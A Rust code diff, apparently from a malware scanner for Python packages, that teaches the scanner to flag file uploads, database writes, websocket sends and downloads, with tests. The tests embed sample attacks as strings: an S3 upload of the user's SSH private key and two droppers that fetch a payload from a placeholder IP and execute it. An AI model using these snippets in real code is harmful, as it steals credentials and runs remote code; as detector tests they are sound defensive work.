@@ -111,6 +111,24 @@ pub fn classify(qualname: &str) -> Option<NetOp> {
         // `perform()` (other options are told apart in `check_call`).
         "pycurl.Curl()" if last == "setopt" => NetOp::Send,
         "pycurl.Curl()" if last == "perform" => NetOp::Fetch,
+        // File transfer and cloud storage clients handed a local path upload that file.
+        _ if uploads_local_path(base, last) => NetOp::Send,
+        // A document database's client writes what it is given to its (remote) server.
+        "pymongo" | "motor.motor_asyncio"
+            if matches!(last, "MongoClient" | "AsyncIOMotorClient") =>
+        {
+            NetOp::Fetch
+        }
+        _ if (base.starts_with("pymongo.MongoClient()")
+            || base.starts_with("motor.motor_asyncio.AsyncIOMotorClient()"))
+            && matches!(
+                last,
+                "insert_one" | "insert_many" | "replace_one" | "update_one" | "update_many"
+            ) =>
+        {
+            NetOp::Send
+        }
+        "wget" | "gdown" if last == "download" => NetOp::Fetch,
         "discord_webhook.DiscordWebhook()" if last == "execute" => NetOp::Send,
         "dhooks.Webhook()" if last == "send" => NetOp::Send,
         // Cloning a repository downloads code as surely as an HTTP GET.
@@ -118,6 +136,15 @@ pub fn classify(qualname: &str) -> Option<NetOp> {
         "pygit2" if last == "clone_repository" => NetOp::Fetch,
         "dulwich.porcelain" if last == "clone" => NetOp::Fetch,
         "websocket" | "websockets" if matches!(last, "create_connection" | "connect") => {
+            NetOp::Send
+        }
+        // `async with websockets.connect(url) as ws: await ws.send(data)`.
+        "websocket.create_connection()"
+        | "websockets.connect()"
+        | "websockets.client.connect()"
+        | "websocket.WebSocket()"
+            if matches!(last, "send" | "send_text" | "send_binary") =>
+        {
             NetOp::Send
         }
         // Plain sockets and sockets wrapped by ssl (`context.wrap_socket(s).connect(...)`).
@@ -134,6 +161,37 @@ pub fn classify(qualname: &str) -> Option<NetOp> {
         _ => return None,
     };
     Some(op)
+}
+
+/// Downloaders that save to a file and return its path (`wget.download(url)`).
+pub fn returns_downloaded_path(qualname: &str) -> bool {
+    matches!(qualname, "wget.download" | "gdown.download")
+}
+
+/// True for a client method that uploads the local file whose path it is given first:
+/// SFTP and SCP `put`, S3's `upload_file`, Google Cloud Storage's `upload_from_filename`.
+fn uploads_local_path(base: &str, last: &str) -> bool {
+    let sftp = base.ends_with("open_sftp()")
+        || base.contains("SFTPClient")
+        || base.starts_with("pysftp.Connection()")
+        || base.starts_with("scp.SCPClient()");
+    (sftp && matches!(last, "put" | "put_r" | "put_d"))
+        || (base.starts_with("boto3.") && last == "upload_file")
+        || (base.starts_with("google.cloud.storage") && last == "upload_from_filename")
+}
+
+/// The local file a path-taking upload (see [`uploads_local_path`]) sends, as the path folds.
+pub fn uploaded_path(checker: &Checker, call: &ExprCall, qualname: &str) -> Option<String> {
+    let (base, last) = qualname.rsplit_once('.')?;
+    if !uploads_local_path(base, last) {
+        return None;
+    }
+    let path = call.arguments.args.first().or_else(|| {
+        ["localpath", "Filename", "filename", "files"]
+            .into_iter()
+            .find_map(|name| super::keyword(call, name))
+    })?;
+    super::partial_text(checker, path)
 }
 
 /// `curl.setopt(pycurl.POSTFIELDS, data)` and the other options that give libcurl a body to
@@ -483,6 +541,41 @@ mod tests {
         assert!(sends(
             "import asyncio\nasync def f():\n    r, w = await asyncio.open_connection('203.0.113.9', 7)\n    w.write(b'x')\nasyncio.run(f())\n"
         ));
+    }
+
+    #[test]
+    fn uploads_of_local_paths_database_writes_and_websocket_sends_send() {
+        assert!(sends(
+            "import paramiko\nc = paramiko.SSHClient()\nsftp = c.open_sftp()\nsftp.put('a.txt', '/tmp/a.txt')\n"
+        ));
+        assert!(sends(
+            "import boto3\ns3 = boto3.client('s3')\ns3.upload_file('a.txt', 'bucket', 'a.txt')\n"
+        ));
+        assert!(sends(
+            "import pymongo\nc = pymongo.MongoClient('mongodb://x.example')\nc.db.col.insert_one({})\n"
+        ));
+        assert!(!sends(
+            "import pymongo\nc = pymongo.MongoClient('mongodb://x.example')\nc.db.col.find_one({})\n"
+        ));
+        assert!(sends(
+            "import asyncio, websockets\nasync def f():\n    async with websockets.connect('ws://x.example') as ws:\n        await ws.send('x')\nasyncio.run(f())\n"
+        ));
+        // The upload reads the file it names: a credential store uploaded is a flow.
+        let keys = "import os, boto3\ns3 = boto3.client('s3')\ns3.upload_file(os.path.expanduser('~/.ssh/id_rsa'), 'b', 'k')\n";
+        assert!(max_severity("p/pkg/__init__.py", keys, "WH200") >= 0.8);
+        let report =
+            "import boto3\ns3 = boto3.client('s3')\ns3.upload_file('report.html', 'b', 'k')\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", report, "WH200"), 0.0);
+    }
+
+    #[test]
+    fn a_file_wget_downloaded_and_started_is_a_dropper() {
+        let dropper = "import os, wget\nf = wget.download('http://198.51.100.46/payload.exe')\nos.startfile(f)\n";
+        assert!(max_severity("p/pkg/__init__.py", dropper, "WH120") >= 0.8);
+        let dataset = "import wget, zipfile\ndef fetch():\n    f = wget.download('https://x.example/d.zip')\n    zipfile.ZipFile(f).extractall('.')\n";
+        assert!(max_severity("p/pkg/__init__.py", dataset, "WH120") < 0.1);
+        let copied = "import shutil, subprocess, urllib.request\nresp = urllib.request.urlopen('http://198.51.100.45/a')\nout = open('/tmp/.kworker', 'wb')\nshutil.copyfileobj(resp, out)\nsubprocess.Popen(['/tmp/.kworker'])\n";
+        assert!(max_severity("p/pkg/__init__.py", copied, "WH120") >= 0.8);
     }
 
     #[test]
